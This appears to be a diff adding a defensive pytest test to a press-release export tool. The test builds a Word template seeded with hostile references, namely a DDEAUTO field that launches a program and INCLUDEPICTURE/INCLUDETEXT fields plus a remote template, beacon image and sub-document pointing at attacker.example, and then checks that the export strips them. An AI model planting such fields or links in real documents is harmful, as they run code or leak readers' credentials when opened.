@@ -328,3 +328,88 @@ def test_a_link_in_the_recovery_folder_to_a_project_elsewhere_is_not_opened_as_u
         win.close()
         context.close()
     assert digests(elsewhere) == before
+
+
+# -- a house template that fetches or runs something when the exported document opens ------------------------
+
+_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+_FETCHING = {
+    "attachedTemplate": f"{_R}/attachedTemplate",
+    "image": f"{_R}/image",
+    "subDocument": f"{_R}/subDocument",
+}
+# Fields Word runs or fetches for: DDEAUTO starts a program, INCLUDEPICTURE/INCLUDETEXT fetch a file (and leak the
+# reader's Windows credentials to a remote share). The instruction is split over runs, as Word itself writes it.
+_FIELDS = ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
+           'INCLUDEPICTURE "http://attacker.example/p.png" \\d',
+           'INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\t.docx"']
+
+
+def _letterhead_with_references(path: Path) -> Path:
+    """A house template whose letterhead, once exported, would reach out of the document when a reader opens it:
+    a remote template, a linked picture, a remote sub-document, fields that run a program or fetch a file; and
+    one website link, which only a reader's click follows and which stays."""
+    import docx
+    from docx.opc.constants import RELATIONSHIP_TYPE as RT
+    from docx.oxml import parse_xml
+
+    doc = docx.Document()
+    header = doc.sections[0].header
+    header.paragraphs[0].text = "ACME Press Office"
+    part = header.part
+    image = part.rels.get_or_add_ext_rel(_FETCHING["image"], "http://attacker.example/beacon.png")
+    subdoc = part.rels.get_or_add_ext_rel(_FETCHING["subDocument"], "file://attacker.example/share/s.docx")
+    link = part.rels.get_or_add_ext_rel(RT.HYPERLINK, "https://press.example.org/")
+    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="' + _R + '" '
+          'xmlns:v="urn:schemas-microsoft-com:vml"')
+    runs = "".join(
+        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{f[:5]}</w:instrText>'
+        f'</w:r><w:r><w:instrText xml:space="preserve">{f[5:]}</w:instrText></w:r><w:r><w:fldChar '
+        f'w:fldCharType="separate"/></w:r><w:r><w:t>result {i}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+        for i, f in enumerate(_FIELDS))
+    for xml in (f'<w:p {ns}><w:r><w:pict><v:shape><v:imagedata r:id="{image}"/></v:shape></w:pict></w:r></w:p>',
+                f'<w:p {ns}>{runs}</w:p>',
+                f'<w:p {ns}><w:fldSimple w:instr=\'INCLUDEPICTURE "http://attacker.example/q.png"\'><w:r><w:t>simple'
+                '</w:t></w:r></w:fldSimple></w:p>',
+                f'<w:subDoc {ns} r:id="{subdoc}"/>',
+                f'<w:p {ns}><w:hyperlink r:id="{link}"><w:r><w:t>press.example.org</w:t></w:r></w:hyperlink></w:p>'):
+        header._element.append(parse_xml(xml))
+    settings = doc.part.part_related_by(RT.SETTINGS)
+    remote = settings.rels.get_or_add_ext_rel(_FETCHING["attachedTemplate"], "file://attacker.example/t.dotm")
+    settings.element.insert(0, parse_xml(f'<w:attachedTemplate {ns} r:id="{remote}"/>'))
+    doc.save(path)
+    return path
+
+
+@pytest.mark.parametrize("layout", [["--lang", "en"], ["--layout", "table"], ["--layout", "review"]])
+def test_an_export_keeps_nothing_of_a_template_that_fetches_or_runs_when_opened(layout: list[str],
+                                                                              tmp_path: Path) -> None:
+    import zipfile
+
+    import docx
+    from lxml import etree
+
+    template = _letterhead_with_references(tmp_path / "letterhead.docx")
+    project = sample_project(tmp_path / "release.pressdesk")
+    out = tmp_path / "out.docx"
+    succeeded(run_cli("export", str(project), *layout, "--template", str(template), "-o", str(out)))
+    external, instructions = [], []
+    with zipfile.ZipFile(out) as zf:
+        for name in zf.namelist():
+            if name.endswith(".rels"):
+                for rel in etree.fromstring(zf.read(name)):
+                    if rel.get("TargetMode") == "External":
+                        external.append((rel.get("Type").rsplit("/", 1)[-1], rel.get("Target")))
+            elif name.endswith(".xml"):
+                root = etree.fromstring(zf.read(name))
+                instructions += ["".join(t.text or "" for t in root.iter(f"{{{_W}}}instrText"))]
+                instructions += [el.get(f"{{{_W}}}instr") for el in root.iter(f"{{{_W}}}fldSimple")]
+                assert not list(root.iter(f"{{{_W}}}attachedTemplate", f"{{{_W}}}subDoc")), name
+    assert external == [("hyperlink", "https://press.example.org/")]
+    fields = " ".join(i for i in instructions if i)
+    for word in ("DDE", "INCLUDEPICTURE", "INCLUDETEXT", "attacker"):
+        assert word not in fields
+    header_text = "\n".join(p.text for p in docx.Document(str(out)).sections[0].header.paragraphs)
+    assert "ACME Press Office" in header_text and "press.example.org" in header_text
+
